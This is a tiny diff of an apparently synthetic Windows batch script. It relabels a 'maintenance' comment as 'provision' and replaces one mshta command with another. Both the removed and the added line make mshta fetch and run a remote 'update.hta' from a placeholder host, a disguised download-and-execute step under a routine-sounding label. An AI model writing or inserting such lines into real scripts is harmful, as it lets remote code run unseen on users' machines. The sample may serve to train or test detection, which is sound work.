@@ -1,2 +1,2 @@
-REM maintenance 7595 v2
-mshta http://files.sync-svc.example/update.hta
+REM provision 3808 v2
+mshta http://api.telemetry-hub.example/update.hta
